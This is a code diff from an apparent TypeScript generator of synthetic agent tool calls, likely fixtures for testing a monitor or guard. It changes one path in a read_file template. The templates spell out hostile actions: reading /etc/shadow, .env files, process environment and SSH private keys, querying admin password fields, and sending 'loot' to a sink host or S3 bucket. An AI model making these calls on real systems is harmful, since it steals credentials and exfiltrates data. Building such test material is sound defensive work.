@@ -23,7 +23,7 @@ const TOOLS: readonly Tool[] = [
   { name: 'http_get', verb_class: 'read', arguments: (c) => ({ url: `http://${sink(c)}/?q=${encodeURIComponent(loot(c))}` }) },
   { name: 'upload_file', verb_class: 'upload', arguments: (c) => ({ path: `/srv/exports/${c.hex(6)}.csv`, destination: `s3://${c.hex(6)}/in`, content: loot(c) }) },
   { name: 'share_document', verb_class: 'share', arguments: (c) => ({ document_id: c.hex(32), with: c.of(PEOPLE), permission: 'editor' }) },
-  { name: 'read_file', verb_class: 'read', arguments: (c) => ({ path: c.of(['/etc/shadow', '../../.env', '/proc/self/environ', '/root/.ssh/id_ed25519']) }) },
+  { name: 'read_file', verb_class: 'read', arguments: (c) => ({ path: c.of(['/etc/shadow', '../../.env', '/proc/self/environ', '~/.ssh/id_ed25519']) }) },
   { name: 'search_records', verb_class: 'search', arguments: (c) => ({ table: 'sys_user', query: `nameLIKE${c.of(['admin', 'svc'])}^ORuser_passwordISNOTEMPTY`, fields: ['user_name', 'user_password'], limit: 1000 }) },
   { name: 'incident.get', verb_class: 'read', arguments: (c) => ({ sys_id: c.hex(32) }) },
   { name: 'incident.query', verb_class: 'read', arguments: (c) => ({ query: `short_descriptionLIKE${loot(c)}^NQactive=true`, fields: ['description'], limit: 1000 }) },
